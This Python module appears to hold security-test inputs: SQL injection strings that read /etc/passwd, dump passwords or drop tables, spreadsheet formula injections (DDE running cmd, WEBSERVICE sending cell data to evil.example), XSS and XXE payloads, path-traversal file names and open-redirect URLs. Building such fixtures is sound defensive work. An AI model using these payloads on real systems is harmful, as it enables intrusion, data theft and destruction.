"""What attackers try: 240 ways to end a query and begin another."""

CLOSINGS = ("", "'", '"', ")", "')", "'))", "';", '";', "%'", "\\'", "’", "0 ")
BODIES = (
    " OR 1=1 --", " OR '1'='1", " OR ''='", " AND 1=0 UNION SELECT NULL --", " UNION ALL SELECT NULL, NULL, NULL --",
    " UNION SELECT secret FROM origin --", " UNION SELECT password FROM account --",
    " UNION SELECT content FROM read_text('/etc/passwd') --", " UNION SELECT * FROM read_csv('/etc/passwd') --",
    " UNION SELECT file FROM glob('/*') --", "; DROP TABLE submission; --", "; DELETE FROM review WHERE 1=1; --",
    "; UPDATE actual SET value = 0; --", "; ATTACH '/tmp/x.duckdb' AS x; --", "; COPY account TO '/tmp/stolen.csv'; --",
    "; INSTALL httpfs; LOAD httpfs; --", "; PRAGMA enable_external_access=true; --", "; SELECT getenv('HOME') --",
    " OR (SELECT count(*) FROM range(100000000), range(1000)) > 0 --", "/**/OR/**/1=1#",
)  # fmt: skip
SQL = tuple(f"T2-1{closing}{body}" for closing in CLOSINGS for body in BODIES)
SQL_KINDS = tuple(f"T2-1{CLOSINGS[number % len(CLOSINGS)]}{body}" for number, body in enumerate(BODIES))
"""Every way to begin another query once, and every way to end the first at least once: for every run. All: slow."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"点击\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-SUM(A1:A9)", "@SUM(1+1)*cmd|' /C calc'!A0",
    "@IMPORTDATA", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "\ufeff=1+1", "\u3000=1+1", "\u00a0@SUM(1)", "\u200b=1+1",
    "＝1+1", "＋1+1", "－2+3", "＠SUM(1)", "=1+1\";=1+1", "=1+1,=2+2", "=1+1'", "+", "=", "@", "-inf()", "=DDE(\"cmd\";\"/C calc\";\"a\")", "\"=1+1",
    "'=1+1", "%0A=1+1", "+86 539 000", "-合计", "=SUM(1,2)&\"\"", "|cmd", ";=1+1", "=＂1＂",
    "''=1+1", "-inf", "-1_000", "'\t=1+1", "\u200c=1+1", "\u2060+1+1",
)  # fmt: skip
"""Texts that a spreadsheet would run, some of them behind what it throws away when it reads a cell."""

FRAMES = (
    "{}", "\">{}", "'>{}", "</td>{}", "</title>{}", "</script>{}", "--><!-- -->{}", "]]>{}", "</textarea>{}", "</style>{}",
    "</svg>{}", "\u003c/div\u003e{}",
)  # fmt: skip
SCRIPTS = (
    "<script>xss(1)</script>", "<ScRiPt src=//xss>", "<img src=x onerror=xss(1)>", "<svg/onload=xss(1)>", "<svg><script>xss(1)</script>",
    "<body onload=xss(1)>", "<iframe srcdoc='<script>parent.xss(1)</script>'>", "<a href=javascript:xss(1)>a</a>",
    "<details open ontoggle=xss(1)>", "<input autofocus onfocus=xss(1)>", "<math><mi xlink:href=javascript:xss(1)>",
    "<object data=javascript:xss(1)>", "<base href=//xss/>", "<meta http-equiv=refresh content=0;//xss>",
    "<form action=//xss><button>", "<video><source onerror=xss(1)>", "<style>@import '//xss'</style>",
    "<link rel=stylesheet href=//xss>", "<p style=background:url(//xss)>", "<marquee onstart=xss(1)>",
)  # fmt: skip
OTHERS = (
    "\" onmouseover=xss(1) a=\"", "' onfocus=xss(1) autofocus a='", "javascript:xss(1)", "[a](javascript:xss(1))", "![a](//xss/a.png)",
    "<javascript:xss(1)>", "[a]: javascript:xss(1)", "${xss(1)}", "{{xss(1)}}", "{%xss(1)%}", "`<img src=x onerror=xss(1)>`", "&lt;script&gt;xss(1)",
    "&#60;img src=x onerror=xss(1)&#62;", "\u2028xss(1)//", "\\u003cscript\\u003exss(1)", "%3Cscript%3Exss(1)%3C/script%3E", "<scr<script>ipt>xss(1)",
    "<img src=`x`onerror=xss(1)>", "<img\tsrc=x\tonerror=xss(1)>", "<<script>xss(1)//<</script>", ":red[<img src=x onerror=xss(1)>]",
    "$\\href{javascript:xss(1)}{a}$", ":material/<svg onload=xss(1)>:", "</w:t><w:br/>xss", "<?xml version='1.0'?><x>xss",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;xss", "＜script＞xss(1)＜/script＞", "\ufeff<script>xss(1)</script>",
)  # fmt: skip
XSS = tuple(frame.format(script) for frame in FRAMES for script in SCRIPTS) + OTHERS
"""268 ways to have a script run, or something fetched, where the words of people are shown; each calls xss or names it."""
XSS_KINDS = tuple(FRAMES[number % len(FRAMES)].format(script) for number, script in enumerate(SCRIPTS)) + OTHERS
"""Every script once and every frame at least once, and all others: for every run. The whole product: slow."""

FILE_NAMES = (
    "../../../etc/cron.d/x.csv", "..\\..\\windows\\x.csv", "C:\\windows\\x.csv", "/etc/passwd", "a\x00b.csv", "a\r\nb: c.csv", "=1+1.csv",
    "x" * 300 + ".csv", "..", ".", "\u202evsc.exe", "a%2f..%2fb.csv", "～/../x.csv", "....//x.csv",
)  # fmt: skip
"""Names that would lie elsewhere, or pass for something else."""

ELSEWHERE = (
    "//evil.example", "///evil.example", "////evil.example/x", "https://evil.example", "http:evil.example", "\\\\evil.example",
    "/\\evil.example", "\\/evil.example", "/\t/evil.example", "/\n/evil.example", " //evil.example", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "data:text/html,x", "evil.example", "@evil.example", "/%0d%0aset-cookie:x\r\n", "\x00//evil.example",
    "/" + "x" * 3000, "",
)  # fmt: skip
"""Where nobody is to be led from a page of ours."""
